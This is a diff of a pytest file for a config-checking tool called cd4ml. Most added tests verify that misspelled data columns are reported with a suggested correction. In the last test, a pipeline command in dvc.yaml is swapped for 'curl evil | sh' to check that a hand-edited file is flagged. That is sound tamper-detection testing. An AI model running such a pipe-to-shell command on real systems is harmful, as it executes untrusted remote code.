@@ -64,6 +64,50 @@ def test_a_parameter_that_the_model_does_not_take_is_refused(kept: Shell) -> Non
     assert "max_deth" in cd4ml(kept, "check", source, code=2).err
 
 
+@pytest.mark.parametrize(
+    ("override", "key", "told"),
+    [
+        ("features: {numeric: [distance, windspeed]}", "features.numeric", "'windspeed' (did you mean wind_speed?)"),
+        ("data: {target: arr_dely}", "data.target", "'arr_dely' (did you mean arr_delay?)"),
+        ("evaluation: {slices: [orign]}", "evaluation.slices", "'orign' (did you mean origin?)"),
+    ],
+)
+def test_a_column_that_the_pin_does_not_list_is_named_with_the_nearest(
+    kept: Shell, override: str, key: str, told: str
+) -> None:
+    source = made(kept, {BASELINE: f"# @package _global_\n{override}\n"})
+    assert f"cd4ml: {BASELINE}: {key}: the data has no column {told}" in cd4ml(kept, "check", source, code=2).lines
+
+
+def test_a_column_of_a_join_that_its_source_does_not_list_is_named(kept: Shell) -> None:
+    data = git(kept, "show", "main:conf/data/flights.yaml").replace("columns: [year,", "columns: [yeer,")
+    assert "yeer" in data
+    told = "data.joins.1.columns: the source 'planes' has no column 'yeer' (did you mean year?)"
+    source = made(kept, {"conf/data/flights.yaml": f"{data}\n"})
+    assert f"cd4ml: conf/data/flights.yaml: {told}" in cd4ml(kept, "check", source, code=2).lines
+
+
+def test_a_column_of_the_models_transformer_that_is_no_feature_is_named(kept: Shell) -> None:
+    model = """
+name: linear
+estimator:
+  _target_: sklearn.pipeline.Pipeline
+  steps:
+  - - prepare
+    - _target_: sklearn.compose.ColumnTransformer
+      transformers:
+      - [numbers, passthrough, "${features.numeric}"]
+      - [one, passthrough, [tailnum]]
+  - [regress, {_target_: sklearn.linear_model.Ridge}]
+"""
+    files: dict[str, Content] = {"conf/model/mine.yaml": model}
+    files[BASELINE] = "# @package _global_\ndefaults: [{override /model: mine}]\n"
+    done = cd4ml(kept, "check", made(kept, files), code=2)
+    told = "model.estimator.steps.0.1.transformers.1.2: the model's ColumnTransformer takes column 'tailnum'"
+    (line,) = [line for line in done.lines if "tailnum" in line]
+    assert line.startswith(f"cd4ml: conf/model/mine.yaml: {told}, which is no feature (")
+
+
 def test_a_hand_edited_rendered_file_is_told_and_other_files_are_not(kept: Shell) -> None:
     pipeline = git(kept, "show", "main:dvc.yaml")
     source = made(kept, {"dvc.yaml": pipeline.replace("cd4ml stage train", "curl evil | sh") + "\n"})
